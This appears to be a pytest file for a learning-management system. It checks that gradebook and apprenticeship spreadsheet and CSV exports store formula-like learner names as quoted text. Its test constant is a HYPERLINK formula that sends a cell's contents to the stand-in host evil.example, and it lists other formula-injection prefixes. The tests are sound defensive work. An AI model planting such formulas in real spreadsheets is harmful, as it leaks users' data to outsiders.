"""Every spreadsheet and CSV export writes a learner's formula-like name as text, never as a formula."""
from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from lms.core.spreadsheets import csv_bytes, is_formula_like, safe_cell, write_rows
from tests.competency.test_apprenticeship import world  # noqa: F401  (fixture)

EVIL = '=HYPERLINK("http://evil.example/?d="&E2,"点击查看")'


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_text_not_formula(data: bytes, needle: str = EVIL):
    cells = _cells(data)
    hits = [c for c in cells if isinstance(c.value, str) and needle in c.value]
    assert hits, "the name is missing from the workbook"
    assert all(c.data_type == "s" for c in hits)
    assert not any(c.data_type == "f" for c in cells)


@pytest.mark.parametrize("text", [EVIL, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\u3000=1", "＝1+1", "＠x"])
def test_formula_like_text_is_recognised_and_quoted(text):
    assert is_formula_like(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["李一", "a=b", 5, -3.5, None, ""])
def test_ordinary_values_are_kept(value):
    assert safe_cell(value) == value


def test_write_rows_stores_formula_like_text_as_a_string_cell():
    from openpyxl import Workbook

    wb = Workbook()
    write_rows(wb.active, [["name"], [EVIL, 3]])
    buf = io.BytesIO()
    wb.save(buf)
    _assert_text_not_formula(buf.getvalue())
    assert load_workbook(io.BytesIO(buf.getvalue())).active["A2"].value == EVIL


def test_csv_quotes_formula_like_text():
    text = csv_bytes([["name"], [EVIL]]).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=" not in text


def test_formula_name_is_text_in_the_gradebook_exports(client, auth, create_user, create_org):
    from lms.core.db import db
    from tests.courses.delivery_support import build_world

    w = build_world(create_user, create_org, kinds=("text",), learners=1)
    w.learners[0].real_name = EVIL
    db.session.commit()
    auth.login(w.teacher)
    text = client.get(f"/teach/course/{w.course.id}/gradebook.csv").data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text
    xlsx = client.get(f"/teach/course/{w.course.id}/gradebook.xlsx")
    _assert_text_not_formula(xlsx.data)


def test_formula_name_is_text_in_the_apprenticeship_workbooks(world, client, auth):  # noqa: F811
    from lms.core.db import db

    world["a1"].real_name = EVIL
    db.session.commit()
    auth.login(world["admin"])
    for kind in ("subsidy", "progress"):
        resp = client.get(f"/competency/apprenticeship/cohorts/{world['cohort'].id}/export/{kind}.xlsx")
        assert resp.status_code == 200
        _assert_text_not_formula(resp.data)
